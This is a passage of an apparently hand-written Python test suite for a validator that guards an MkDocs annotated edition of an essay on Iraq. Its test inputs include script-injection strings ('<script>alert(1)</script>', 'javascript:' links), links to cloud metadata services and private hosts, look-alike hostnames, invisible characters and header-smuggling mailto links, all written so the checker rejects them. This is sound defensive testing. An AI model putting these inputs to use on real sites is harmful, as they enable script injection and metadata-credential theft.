        replace(LAYOUT, "image_credit: 107", "image_credit: 5"),
        f"{LAYOUT}:{line_of(LAYOUT, 'image_credit:')}: 'image_credit' names line 5, inside `body` (lines 5 to 99), where "
        "the essay's text is; give the number of the line that holds it"),
    "layout.yml: a heading outside the essay's body": (
        replace(LAYOUT, "headings: [17, 25, 41, 57, 69, 81]", "headings: [17, 25, 41, 57, 69, 81, 103]"),
        f"{LAYOUT}:{line_of(LAYOUT, 'headings:')}: 'headings' names line 103, outside `body` (lines 5 to 99), where the "
        "essay's headings are"),
    "layout.yml: a biography left out": (  # nineteenth round, case 2: Sam Heller's biography vanished unseen
        replace(LAYOUT, "biographies: [103, 105]", "biographies: [103]"),
        f"{LAYOUT}:{line_of(LAYOUT, 'biographies:')}: line 105 of sources/essay/original.txt (“"),
    "layout.yml: a biography that is the image credit": (
        replace(LAYOUT, "biographies: [103, 105]", "biographies: [103, 107]"),
        f"{LAYOUT}:{line_of(LAYOUT, 'image_credit:')}: 'image_credit' names line 107, which 'biographies' names too"),
}


CASES |= {  # eighteenth round, case 25: a picture's name on a page with a script, which a browser may sniff as HTML
    "docs: a PNG that holds a page with a script": (
        write_file("docs/assets/map.png", b"<!doctype html><script>alert(1)</script>"),
        "docs/assets/map.png: is not the PNG image its name says (its first bytes are another kind of file's), and a "
        "browser reads it by what it holds; save it as a PNG image, or remove it"),
    "overrides: a font that is a page": (
        write_file("overrides/assets/fonts/x.woff2", b"<html><script>alert(1)</script>"),
        "overrides/assets/fonts/x.woff2: is not the WOFF2 font its name says"),
}


LOC = "sources/loc-2016-12-07.yml"
LOC_URL = "https://www.loc.gov/law/foreign-news/article/iraq-legislating-the-status-of-the-popular-mobilization-forces/"


def captured_at(stamp: str):
    """Break: the Library of Congress record given a Wayback capture of its own address, made at stamp."""
    return replace(LOC, f"url: {LOC_URL}\n", f"url: {LOC_URL}\narchive_url: https://web.archive.org/web/{stamp}/{LOC_URL}\n"
                   f"archive_date: {stamp[:4]}-{stamp[4:6]}-{stamp[6:8]}\n")


CASES |= {  # nineteenth round, cases 3 and 4: what `make archives` refuses, written by hand
    "a capture made before the document's day began anywhere": (
        captured_at("20161206000000"),
        f"{LOC}:{line_of(LOC, 'url: ') + 1}: 'archive_url' is a capture made at 20161206000000 (UTC), before 2016-12-07 "
        "began anywhere"),
    "a capture at hour 25": (
        captured_at("20161207250000"),
        f"{LOC}:{line_of(LOC, 'url: ') + 1}: 'archive_url' names the moment 20161207250000, which no calendar or clock has"),
}


CASES |= {  # twentieth round: a nav path not written as docs/ names the page (T3, cases 23 and 24)
    "mkdocs.yml: a page listed again as ./about.md": (
        replace(CONFIG, "      - About: about.md", "      - About: about.md\n      - Again: ./about.md"),
        f"{CONFIG}:{ABOUT_NAV + 1}: `nav` lists './about.md', a path not written as docs/ names the page; write it as 'about.md'"),
    "mkdocs.yml: a nav path through another folder": (
        replace(CONFIG, "      - About: about.md", "      - About: stylesheets/../about.md"),
        f"{CONFIG}:{ABOUT_NAV}: `nav` lists 'stylesheets/../about.md', a path not written as docs/ names the page; write it as "
        "'about.md'"),
    "mkdocs.yml: about.md listed only as ./about.md": (  # named once, at its line: not also as a page nav leaves out
        replace(CONFIG, "      - About: about.md", "      - About: ./about.md"),
        [f"{CONFIG}:{ABOUT_NAV}: `nav` lists './about.md', a path not written as docs/ names the page; write it as 'about.md'"]),
}


CASES |= {  # twenty-second round, T5: a heading left out of layout.yml, set as a paragraph
    "layout.yml: a heading left out": (
        replace(LAYOUT, "headings: [17, 25, 41, 57, 69, 81]", "headings: [17, 25, 41, 57, 69]"),
        [f"{LAYOUT}:{line_of(LAYOUT, 'headings:')}: line 81 of sources/essay/original.txt (“Recapturing the Strategic "
         "Initiative”) reads as a heading, but 'headings' does not name it: the edition would set it as a paragraph; add 81 "
         "to `headings`, or, if it is a paragraph, correct layout.yml's other numbers"]),
}


CASES |= {  # nineteenth round, a minor case left: the first paragraph named a heading, and 240 messages never named layout.yml
    "layout.yml: a paragraph named a heading": (
        replace(LAYOUT, "headings: [17, 25,", "headings: [5, 25,"),
        [f"{LAYOUT}:{line_of(LAYOUT, 'headings:')}: 'headings' names line 5 (““Maximum pressure” on Iran is working, the Trump "
         "administrat…”), a paragraph of the essay, not a heading: it ends with a full stop or runs past 20 words; give the "
         "number of the heading's line"]),
}


CASES |= {  # twenty-first round: addresses held to the records' rules wherever they are written (T2, T4, case 36)
    "docs: a link holding a right-to-left mark": (
        add_line(ABOUT, "See [the report](https://example.org/a\u200fb)."),
        f"{ABOUT}:{ABOUT_END}: a link to 'https://example.org/a\\u200fb' is not an address a reader's browser follows as "
        "written; an address cannot hold '\\u200f': percent-encode it (a space is %20, \" is %22) or remove it"),
    "docs: a typed link holding a right-to-left mark by reference": (  # case 139
        add_line(ABOUT, '<a href="https://example.org/a&#x200F;b">e</a>'),
        f"{ABOUT}:{ABOUT_END}: a link to 'https://example.org/a\\u200fb' is not an address a reader's browser follows as "
        "written; an address cannot hold '\\u200f'"),
    "docs: a link holding an ideographic space": (
        add_line(ABOUT, "See [the report](https://example.org/a\u3000b)."),
        f"{ABOUT}:{ABOUT_END}: a link to 'https://example.org/a\\u3000b' is not an address a reader's browser follows as "
        "written; an address cannot hold '\\u3000': percent-encode it (a space is %20, \" is %22) or remove it"),
    "mkdocs.yml: the logo's link to a cloud's metadata service": (
        replace(CONFIG, "extra:\n", "extra:\n  homepage: http://169.254.169.254/latest/meta-data/\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: `extra.homepage` is 'http://169.254.169.254/latest/meta-data/', not an "
        "address a reader's browser follows as written; the host 169.254.169.254 is not on the public web, so a reader who "
        "follows the link reaches their own machine or network: give the address as the site itself gives it"),
    "mkdocs.yml: a language menu's link to a private address": (
        replace(CONFIG, "extra:\n", "extra:\n  alternate:\n    - {name: English, link: 'http://10.0.0.1/en/', lang: en}\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.alternate.link` is 'http://10.0.0.1/en/', not an address a "
        "reader's browser follows as written; the host 10.0.0.1 is not on the public web"),
    "mkdocs.yml: a social link holding a right-to-left mark": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/github\n      link: \"https://github.com/x\\u200f\"\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.social` links to 'https://github.com/x\\u200f', not an address a "
        "reader's browser follows as written; an address cannot hold '\\u200f'"),
}


CASES |= {  # twentieth round, case 12: a record's address on the reader's own machine or network; case 13: a mark in one
    **{f"a record's url on {host}": (
        replace(LOC, f"url: {LOC_URL}", f"url: http://{host}/law/"),
        f"{LOC}:{line_of(LOC, 'url: ')}: 'url' must be an http(s) URL, got 'http://{host}/law/'; the host {shown} is not on the "
        "public web, so a reader who follows the link reaches their own machine or network: give the address as the site "
        "itself gives it") for host, shown in (("127.0.0.1", "127.0.0.1"), ("169.254.169.254", "169.254.169.254"),
                                                ("192.168.1.1", "192.168.1.1"), ("[fe80::1%25eth0]", "fe80::1%25eth0 (that is fe80::1)"),
                                                ("[::ffff:10.0.0.1]", "::ffff:10.0.0.1 (that is 10.0.0.1)"))},
    # Names no one answers for on the public web (twenty-first round, T1): localhost, a cloud's metadata service, one label.
    **{f"a record's url on {host}": (
        replace(LOC, f"url: {LOC_URL}", f"url: http://{host}/law/"),
        f"{LOC}:{line_of(LOC, 'url: ')}: 'url' must be an http(s) URL, got 'http://{host}/law/'; the host {shown} is not a "
        f"name on the public web ({why}), so a reader who follows the link reaches their own machine or network, or nothing: "
        "give the address as the site itself gives it")
       for host, shown, why in (("LOCALHOST.:8000", "localhost.", ".localhost is for the reader's own machine, RFC 6761"),
                                ("metadata.google.internal", "metadata.google.internal",
                                 ".internal is for private networks and cloud services, ICANN"),
                                ("printer.local", "printer.local", ".local is for machines on the reader's own network, RFC 6762"),
                                ("example.test", "example.test", ".test is for testing, RFC 6761"),
                                ("wpad", "wpad", "a name of one label, which the reader's network answers for"),
                                # twenty-second round, T1 and 15
                                ("ipv4only.arpa", "ipv4only.arpa", ".arpa is for the Internet's own infrastructure, never a "
                                 "page, RFC 3172"),
                                ("nas.lan", "nas.lan", ".lan is for private networks, never delegated in DNS"),
                                ("x.mail", "x.mail", ".mail is for private networks, never delegated in DNS"),
                                # twenty-ninth round, M5: IANA's IDN test domains, typed and in punycode
                                ("xn--r8jz45g.\u30c6\u30b9\u30c8", "xn--r8jz45g.\u30c6\u30b9\u30c8", ".\u30c6\u30b9\u30c8 is for testing, "
                                 "IANA's IDN test domains, withdrawn from the root in 2013"),
                                ("a.xn--80akhbyknj4f", "a.xn--80akhbyknj4f", ".xn--80akhbyknj4f is for testing, IANA's IDN test "
                                 "domains, withdrawn from the root in 2013"))},
    "mkdocs.yml: the edition's address on a cloud's metadata service": (
        replace(CONFIG, "site_url: https://iraq-restraint-edition.github.io/", "site_url: http://metadata.google.internal/"),
        f"{CONFIG}:{line_of(CONFIG, 'site_url:')}: `site_url` must be a web address, got 'http://metadata.google.internal/'"),
    "a right-to-left mark in a record's url": (
        replace(LOC, f"url: {LOC_URL}", f"url: {LOC_URL}\u200f"),
        f"{LOC}:{line_of(LOC, 'url: ')}: 'url' must be an http(s) URL, got '{LOC_URL[:56]}...; an address cannot hold "
        "'\\u200f': percent-encode it (a space is %20, \" is %22) or remove it"),
}


CASES |= {  # twentieth round, T5: a term that is another entry's with a space
    "a glossary term with a space after it": (
        replace("sources/essay/glossary.yml", "terms: [Quds Force]", "terms: [Quds Force, 'Soleimani ']"),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', 'terms: [Quds Force]')}: glossary entry 'quds-force': "
        "the term 'Soleimani ' has spaces at an end, or more than one between two words; write the words as the essay prints "
        "them: 'Soleimani'"),
}


CASES |= {  # twentieth round, T2 and T4: the files made after the redirects, the PDF and the offline copy
    "anchors.lock: redirects from the PDF's name and the offline copy's": (
        replace("anchors.lock", "redirects: {}", 'redirects: {"in-iraq-restraint-annotated-edition.pdf/": "about/", '
                '"downloads/iraq-restraint-edition-offline.zip/": "about/"}'),
        [f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect '{old}' would be written inside {file}, a file the "
         "site publishes" for old, file in (("in-iraq-restraint-annotated-edition.pdf/", "in-iraq-restraint-annotated-edition.pdf"),
                                            ("downloads/iraq-restraint-edition-offline.zip/",
                                             "downloads/iraq-restraint-edition-offline.zip"))]),
}


CASES |= {  # twenty-first round, cases 64 and 65: nav paths MkDocs reads otherwise, named with the path to write
    **{f"mkdocs.yml: about.md listed as {written}": (
        replace(CONFIG, "      - About: about.md", f"      - About: about.md\n      - Again: {written}"),
        f"{CONFIG}:{ABOUT_NAV + 1}: `nav` lists {written!r}, a path not written as docs/ names the page; write it as "
        f"'about.md'{whole}") for written, whole in (("about.md#reuse", ": `nav` names whole pages, never a part of one"),
                                                      ("about.md?x=1", ": `nav` names whole pages, never a part of one"),
                                                      ("about/", ""),
                                                      ("ABOUT.md#x", ": `nav` names whole pages, never a part of one"))},
}


CASES |= {  # twenty-first round, T4 and 131: every page's "Edit this page" link
    "mkdocs.yml: edit links to a cloud's metadata service": (
        replace(CONFIG, "site_url:", "edit_uri: http://169.254.169.254/edit/\nsite_url:"),
        f"{CONFIG}:{line_of(CONFIG, 'site_url:')}: `edit_uri` is 'http://169.254.169.254/edit/', not an address a reader's "
        "browser follows as written; the host 169.254.169.254 is not on the public web"),
    "mkdocs.yml: edit links that run a script": (
        replace(CONFIG, "site_url:", "edit_uri: 'javascript:alert(1)//'\nsite_url:"),
        f"{CONFIG}:{line_of(CONFIG, 'site_url:')}: `edit_uri` is 'javascript:alert(1)//', not an address a reader's browser "
        "follows as written; give a whole https:// address, or remove it"),
}


CASES |= {  # twenty-first round, T3: Wayback addresses that are no capture of a day, published as "Archived copy (date)"
    **{f"a Wayback address that is {what}": (
        replace(LOC, f"url: {LOC_URL}\n", f"url: {LOC_URL}\narchive_url: {address}\narchive_date: 2016-12-08\n"),
        f"{LOC}:{line_of(LOC, 'url: ') + 1}: 'archive_url' is on the Wayback Machine but is no address of one capture of a "
        "day; give it as https://web.archive.org/web/YYYYMMDDhhmmss/ followed by the record's `url`, as `make archives` "
        "records it, or remove it")
       for what, address in (("its calendar of captures", f"https://web.archive.org/web/20161208000000*/{LOC_URL}"),
                             ("its latest capture", f"https://web.archive.org/web/2/{LOC_URL}"),
                             ("on another port", f"http://web.archive.org:8080/web/20161208000000/{LOC_URL}"))},
}


CASES |= {  # twenty-second round, T2: what draws nothing, in any address (a zero-width space, a variation selector)
    "docs: a link holding a zero-width space": (
        add_line(ABOUT, "See [z](https://example.org/a\u200bb)."),
        f"{ABOUT}:{ABOUT_END}: a link to 'https://example.org/a\\u200bb' is not an address a reader's browser follows as "
        "written; an address cannot hold '\\u200b'"),
    "docs: a typed link holding a zero-width space by name": (
        add_line(ABOUT, '<a href="https://example.org/a&ZeroWidthSpace;b">z</a>'),
        f"{ABOUT}:{ABOUT_END}: a link to 'https://example.org/a\\u200bb' is not an address"),
    "a variation selector in a record's url": (
        replace(LOC, f"url: {LOC_URL}", f"url: {LOC_URL}\ufe0f"),  # after a Latin letter, refused in any value (round 41)
        f"{LOC}:{line_of(LOC, 'url: ')}: a value holds U+FE0F, an invisible character"),
    "mkdocs.yml: a variation selector in the edition's address": (
        replace(CONFIG, "site_url: https://iraq-restraint-edition.github.io/", "site_url: https://iraq-restraint-edition.github.io/\ufe00"),
        f"{CONFIG}:{line_of(CONFIG, 'site_url:')}: a value holds U+FE00, an invisible character"),
}


def add_lines(path: str, *paragraphs: str):
    """Break: add paragraphs at the end of a page; the last takes the line two after added_line's for each before it."""
    return add_line(path, "\n\n".join(paragraphs))


CASES |= {  # twenty-second round, T3: a bad link named at an earlier good link to the same host
    "docs: a bad link after a good one to the same host": (
        add_lines(ABOUT, "See [ok](https://example.org/fine).", "Then text.", "And [bad](https://example.org/a\u200fb)."),
        f"{ABOUT}:{ABOUT_END + 4}: a link to 'https://example.org/a\\u200fb' is not an address"),
    "docs: a reference definition holding a mark by name, after a good link": (
        add_lines(ABOUT, "See [ok](https://example.org/fine) and [r][r1].", "[r1]: https://example.org/r&rlm;b"),
        f"{ABOUT}:{ABOUT_END + 2}: a link to 'https://example.org/r\\u200fb' is not an address"),
}


CASES |= {  # twenty-second round, 58: a template's links, on every page, held to the rules of every address
    "a template's link to a cloud's metadata service": (
        replace("overrides/base.html", DRAWER, DRAWER + '<a href="http://169.254.169.254/latest/">x</a>'),
        f"{TEMPLATE}:105: every page would carry a link to 'http://169.254.169.254/latest/' that no reader should be sent to "
        "(the host 169.254.169.254 is not on the public web"),
    "a template's link to a look-alike host": (
        replace("overrides/base.html", DRAWER, DRAWER + '<a href="https://g\u0456thub.com/x">x</a>'),
        f"{TEMPLATE}:105: every page would carry a link to 'https://g\u0456thub.com/x' that no reader should be sent to "
        "(the host g\u0456thub.com mixes Latin letters"),
}


CASES |= {  # twenty-third round, T6: a redirect's name no file system holds, which stopped the build late, naming no input
    **{f"anchors.lock: a redirect from {what}": (  # as a block's key: PyYAML reads no flow key over 1,024 characters
        replace("anchors.lock", "redirects: {}", f"redirects:\n  ? {old}\n  : about/"),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}') + 1}: redirect '{old}' → 'about/': both must be URL paths of "
        "the site") for what, old in (("a name of 300 letters", "a" * 300 + "/"), ("a path of 1,500 folders", "ab/" * 1500))},
}


CASES |= {  # twenty-third round, T3: links a template writes that no rule read, and a page's scheme-relative link
    **{f"a template's {what}": (
        replace("overrides/base.html", DRAWER, DRAWER + markup),
        f"{TEMPLATE}:105: every page would carry a link to {address!r} that no reader should be sent to (the host "
        "169.254.169.254 is not on the public web")
       for what, markup, address in (
           ("scheme-relative link", '<a href="//169.254.169.254/rel">r</a>', "//169.254.169.254/rel"),
           ("SVG link", '<svg><a xlink:href="http://169.254.169.254/xl"><text>x</text></a></svg>', "http://169.254.169.254/xl"),
           ("feed", '<link rel="alternate" type="application/rss+xml" href="http://169.254.169.254/feed">',
            "http://169.254.169.254/feed"))},
    # T6: a page's scheme-relative links, which every address rule skipped; T7: the form browsers read as one
    **{f"docs: a scheme-relative link to {what}": (
        add_line(ABOUT, f"See [m]({link})."), f"{ABOUT}:{ABOUT_END}: a link to {shown!r}: the host {host}")
       for what, link, shown, host in (
           ("a cloud's metadata service", "//169.254.169.254/latest/", "//169.254.169.254/latest/", "169.254.169.254"),
           ("a printer", "//printer.local/f", "//printer.local/f", "printer.local"),
           ("a look-alike host", "//ex\u0430mple.org/h", "//ex\u0430mple.org/h", "ex\u0430mple.org"),
           ("a host browsers read with a backslash", "/\\\\169.254.169.254/b", "/\\169.254.169.254/b", "169.254.169.254"))},
}
CASES |= {  # twenty-third round, T4: a bad link named where a code span or block shows the same address as text
    "docs: a bad link after a code span showing its address": (
        add_lines(ABOUT, "Do not write `http://169.254.169.254/latest/` here.", "See [bad](http://169.254.169.254/latest/)."),
        f"{ABOUT}:{ABOUT_END + 2}: a link to 'http://169.254.169.254/latest/': the host"),
    "docs: a bad link after a code block showing it": (
        add_lines(ABOUT, "```\n[bad](http://169.254.169.254/x)\n```", "See [bad](http://169.254.169.254/x)."),
        f"{ABOUT}:{ABOUT_END + 4}: a link to 'http://169.254.169.254/x': the host"),
}


CASES |= {  # twenty-third round, T1 and T2: layout.yml naming one part as another, read against the essay's own record
    "layout.yml: the title and the header image's name swapped": (
        steps(replace(LAYOUT, "title: 1", "title: 3"),
              replace(LAYOUT, "header_image_filename: 3 ", "header_image_filename: 1 ")),
        # Named since the twenty-fourth round by the file name's own rule, also at layout.yml.
        f"{LAYOUT}:{line_of(LAYOUT, 'header_image_filename:')}: 'header_image_filename' names line 1 (“In Iraq, Restraint "
        "Is America’s Best Option”), which is no file's name"),
    "layout.yml: the title and the image credit swapped": (
        steps(replace(LAYOUT, "title: 1", "title: 107"),
              replace(LAYOUT, "image_credit: 107 ", "image_credit: 1 ")),
        f"{LAYOUT}:{line_of(LAYOUT, 'title:')}: 'title' names a line that is not the essay's title (“Image: Mehr News "
        "Agency”): the title of its record 'warontherocks-2020-03' is the line 'image_credit' names; swap the numbers of "
        "'title' and 'image_credit'"),
    "layout.yml: a biography and the image credit swapped": (
        steps(replace(LAYOUT, "biographies: [103, 105]", "biographies: [103, 107]"),
              replace(LAYOUT, "image_credit: 107 ", "image_credit: 105 ")),
        f"{LAYOUT}:{line_of(LAYOUT, 'biographies:')}: 'biographies' names a line that names no author of the essay "
        "(Fantappie, Heller): “Image: Mehr News Agency”"),
}


CASES |= {  # twenty-fourth round: a link's line through a backslash (T2) or a Markdown escape (T4); a web-only note (T3)
    "docs: a link written with backslashes after its scheme": (
        add_line(ABOUT, "See [l](http:\\\\169.254.169.254/l)."),
        f"{ABOUT}:{ABOUT_END}: a link to 'http:\\\\169.254.169.254/l'"),
    "docs: a bad link with a Markdown escape after a good one to its host": (
        add_lines(ABOUT, "See [ok](https://example.org/fine).", "And [d](https://example.org/\\_x\u200f)."),
        f"{ABOUT}:{ABOUT_END + 2}: a link to 'https://example.org/_x\\u200f' is not an address"),
    # and the attribute list's other spellings of the class (twenty-fifth round, T1)
    **{f"docs: a note called in a paragraph the PDF leaves out, marked {mark}": (
        replace(ABOUT, "## The essay\n", f"## The essay\n\nAlso reproduced elsewhere.[^warontherocks-2020-03]\n{mark}\n"),
        f"{ABOUT}:{line_of(ABOUT, '## The essay') + 2}: a note ([^warontherocks-2020-03]) is called in a paragraph marked "
        "{ .web-only }, which the PDF leaves out: its notes would be numbered otherwise than the site's")
       for mark in ("{ .web-only }", '{ class="web-only" }', "{ class=web-only }", '{ lang="en" class="x web-only" }')},
}


CASES |= {  # twenty-fourth round, T1 and 1: the image's file name and credit swapped; the biographies out of order
    "layout.yml: the image's file name and credit swapped": (
        steps(replace(LAYOUT, "header_image_filename: 3 ", "header_image_filename: 107 "),
              replace(LAYOUT, "image_credit: 107 ", "image_credit: 3 ")),
        f"{LAYOUT}:{line_of(LAYOUT, 'header_image_filename:')}: 'header_image_filename' names line 107 (“Image: Mehr News "
        "Agency”), which is no file's name"),
    "layout.yml: the biographies out of the byline's order": (
        replace(LAYOUT, "biographies: [103, 105]", "biographies: [105, 103]"),
        f"{LAYOUT}:{line_of(LAYOUT, 'biographies:')}: 'biographies' names the authors' biographies in another order "
        "(Heller, Fantappie) than the essay's byline (Fantappie, Heller)"),
}


TAGGED = ("is tagged to be read as {kind}, which it is not written as; remove the tag (such as ! or !!bool) and write the "
          "value as it is meant: quoted for text, or plain for a number, a date, true or false")
CASES |= {  # twenty-sixth round, T1: a tag that has YAML read a value as a kind its text is not (PyYAML stopped on a KeyError)
    "records: a quoted yes with a line break, under the tag !": (
        replace("sources/abqaiq-2019-09-14.yml", 'title: "Saudi Arabia cuts oil output after Houthi drone attack"',
                'title: ! "yes\\n"'),
        "sources/abqaiq-2019-09-14.yml:4: 'yes\\n' " + TAGGED.format(kind="true or false")),
    "mkdocs.yml: a site name read as false": (
        replace("mkdocs.yml", 'site_name: "In Iraq, Restraint Is America’s Best Option — annotated edition"',
                'site_name: ! "Off\\n"'),
        f"mkdocs.yml:{line_of('mkdocs.yml', 'site_name:')}: 'Off\\n' " + TAGGED.format(kind="true or false")),
    "docs: a description in front matter read as false": (
        replace("docs/about.md", "description: >-\n  Who wrote the essay and where it first appeared, how to read the edition "
                "offline, what may be\n  reused on which terms, and what the build checks before it publishes.",
                'description: ! "no\\n"'),
        "docs/about.md:2: 'no\\n' " + TAGGED.format(kind="true or false")),
    "records: a title tagged null, which would drop it": (
        replace("sources/abqaiq-2019-09-14.yml", 'title: "Saudi Arabia', 'title: !!null "Saudi Arabia'),
        "sources/abqaiq-2019-09-14.yml:4: 'Saudi Arabia cuts oil output after Houthi drone attack' "
        + TAGGED.format(kind="null (no value)")),
    "claims.yml: a paragraph tagged as a date that is none": (
        replace("sources/essay/claims.yml", "paragraph: 2\n", "paragraph: !!timestamp two\n"),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'paragraph: 2')}: 'two' "
        + TAGGED.format(kind="a date or a time")),
    "claims.yml: a paragraph number of 5,000 digits": (
        replace("sources/essay/claims.yml", "paragraph: 2\n", f"paragraph: {'2' * 5000}\n"),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'paragraph: 2')}: a number of 5,000 digits, more "
        "than can be read; write the number meant, or quote the value if it is text"),
}


EXTRA = line_of(CONFIG, "extra:")
SOCIAL = "extra:\n  social:\n    - icon: material/email\n      link: "
MAIL_FIX = ("write it as mailto:name@domain, with a domain on the public web and only recipients, a subject and a body "
            "after the ?; or remove the link")
AT_LOCALHOST = (": the host localhost is not a name on the public web (.localhost is for the reader's own machine, RFC "
                "6761), so a reader who follows the link reaches their own machine or network, or nothing; " + MAIL_FIX)
CASES |= {  # twenty-seventh round, T1: an extra.social entry Material cannot draw, named at the theme's template
    "mkdocs.yml: a social entry with no icon": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - link: https://example.org/\n"),
        f"{CONFIG}:{EXTRA + 2}: an entry of `extra.social` has no `icon:`, which Material draws the link with; give each "
        "entry an `icon:` (such as material/github) and a `link:`, or remove it"),
    "mkdocs.yml: social links written as one text": (
        replace(CONFIG, "extra:\n", "extra:\n  social: https://example.org/\n"),
        f"{CONFIG}:{EXTRA + 1}: `extra.social` is a text, not a list of links; write each link as an entry of its own"),
    "mkdocs.yml: a social entry with a null link": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/github\n      link: null\n"),
        f"{CONFIG}:{EXTRA + 2}: an entry of `extra.social` has no `link:`"),
}
CASES |= {  # twenty-seventh round, T2 and T3: mail links to a machine of the reader's own, or holding what no address holds
    "mkdocs.yml: a social mail link copied to loopback and localhost": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:a@example.org?cc=b@127.0.0.1&bcc=c@localhost'\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:a@example.org?cc=b@127.0.0.1&bcc=c@localhost': the "
        f"recipient 'b@127.0.0.1' is at an IP address, not a name on the public web; {MAIL_FIX}"),
    "mkdocs.yml: a social mail link to a percent-encoded NUL": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:%00@x.org'\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:%00@x.org': it holds '\\x00' (U+0000, percent-encoded), "
        f"which an address never holds; {MAIL_FIX}"),
    "docs: mail links to loopback, localhost and an IP, and one reordering its body": (
        add_lines(ABOUT, "[us](mailto:a@example.org?cc=b@127.0.0.1&bcc=c@localhost)", "[both](mailto:a@example.org,b@localhost)",
                  "[lo](mailto:a@[127.0.0.1]) <editors@localhost>", '<a href="mailto:a@example.org?body=%E2%80%AEx">m</a>'),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?cc=b@127.0.0.1&bcc=c@localhost': the recipient 'b@127.0.0.1' is "
         f"at an IP address, not a name on the public web; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:a@example.org,b@localhost': the recipient 'b@localhost'" + AT_LOCALHOST,
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:a@[127.0.0.1]': the recipient 'a@[127.0.0.1]' is at an IP address",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:editors@localhost': the recipient 'editors@localhost'" + AT_LOCALHOST,
         f"{ABOUT}:{ABOUT_END + 6}: a link to 'mailto:a@example.org?body=%E2%80%AEx': it holds '\\u202e' (U+202E, "
         f"percent-encoded), which a mail's body never holds; {MAIL_FIX}"]),
    "a template's mail link to localhost": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="mailto:editors@localhost">write</a>'),
        f"{TEMPLATE}:105: every page would carry a mail link, 'mailto:editors@localhost', that no reader should be sent to "
        "(the recipient 'editors@localhost': the host localhost is not a name on the public web"),
}
CASES |= {  # twenty-seventh round, T4: a quotation mark in the site's name, which Material writes into an attribute as it is
    "mkdocs.yml: a site name holding quotation marks": (
        replace(CONFIG, 'site_name: "In Iraq, Restraint Is America’s Best Option — annotated edition"',
                "site_name: 'In Iraq \"Restraint\" edition'"),
        f"{CONFIG}:{line_of(CONFIG, 'site_name:')}: `site_name` holds '\"', which the theme writes into the HTML of every "
        "page as it is (unescaped): it could end an attribute or start an element; write it without \", <, > or backticks"),
}
CASES |= {  # twenty-seventh round, T5: numbers in base sixty, hex, binary and octal past what Python reads or writes
    "records: a base-sixty title of 4,400 digits": (
        replace("sources/abqaiq-2019-09-14.yml", 'title: "Saudi Arabia cuts oil output after Houthi drone attack"',
                "title: 1" + "0" * 4400 + ":30"),
        f"sources/abqaiq-2019-09-14.yml:4: {shown('1' + '0' * 4400 + ':30')} is read by YAML 1.1 "
        "as a number of more than 4,300 digits, not as its digits say"),
    "records: a hex title of 4,000 digits": (
        replace("sources/abqaiq-2019-09-14.yml", 'title: "Saudi Arabia cuts oil output after Houthi drone attack"',
                "title: 0x" + "f" * 4000),
        f"sources/abqaiq-2019-09-14.yml:4: {shown('0x' + 'f' * 4000)} is read by YAML 1.1 "
        "as a number of more than 4,300 digits, not as its digits say"),
    "mkdocs.yml: a binary number of 20,000 digits": (
        replace(CONFIG, "extra:\n", "extra:\n  version: 0b" + "1" * 20000 + "\n"),
        f"{CONFIG}:{EXTRA + 1}: {shown('0b' + '1' * 20000)} is read by YAML 1.1 as a "
        "number of more than 4,300 digits, not as its digits say"),
}


CASES |= {  # twenty-eighth round, T5: a float in base sixty past any a float holds, which stopped on an OverflowError
    "records: a base-sixty float of 200 parts": (
        replace("sources/abqaiq-2019-09-14.yml", 'title: "Saudi Arabia cuts oil output after Houthi drone attack"',
                "title: 1" + ":59" * 200 + ".5"),
        f"sources/abqaiq-2019-09-14.yml:4: {shown('1' + ':59' * 200 + '.5')} is read by YAML 1.1 as a number too large for a "
        "float, not as its digits say"),
}
CASES |= {  # twenty-eighth round, T6 to T8: an empty site name; a social icon Material does not have, named at its
    # template; a social link's name that is no text
    "mkdocs.yml: an empty site name": (
        replace(CONFIG, 'site_name: "In Iraq, Restraint Is America’s Best Option — annotated edition"', 'site_name: "   "'),
        f"{CONFIG}:{line_of(CONFIG, 'site_name:')}: `site_name` is empty: every page's title would end in nothing and the "
        "logo's link would have no name; write the edition's name"),
    "mkdocs.yml: a social icon Material does not have": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: fontawesome/solid/no-such-icon\n      link: https://github.com/x\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social.icon` is 'fontawesome/solid/no-such-icon', which is not the name of one of "
        "Material's icons"),
    "mkdocs.yml: a social link named by a list": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/github\n      link: https://github.com/x\n"
                "      name: [1, 2]\n"),
        f"{CONFIG}:{EXTRA + 4}: `extra.social.name` is [1, 2], not text"),
}
# A header a mail link may not set (thirtieth hostile round, T3): some mail programs act on one, attach= above all.
SETS_ONLY = ("which a mail program may act on (attach= attaches a file of the reader's own); a mail link sets only bcc, body, "
             "cc, comments, in-reply-to, keywords, references, subject, to; " + MAIL_FIX)
AT_AN_IP = "is at an IP address, not a name on the public web; " + MAIL_FIX
CASES |= {  # twenty-eighth round, T1 to T3: mail links to an IP in a name lookup's other forms, to a look-alike name, a
    # Bcc: smuggled into the subject, other headers that hold addresses, a header name mail programs read differently
    "docs: mail links to loopback in the forms a name lookup reads": (
        add_lines(ABOUT, "[a](mailto:a@0x7f.1) [b](mailto:b@127.1)", "<c@127.0.0.1.>",
                  "[d](mailto:d@\uff11\uff12\uff17.\uff10.\uff10.\uff11)"),
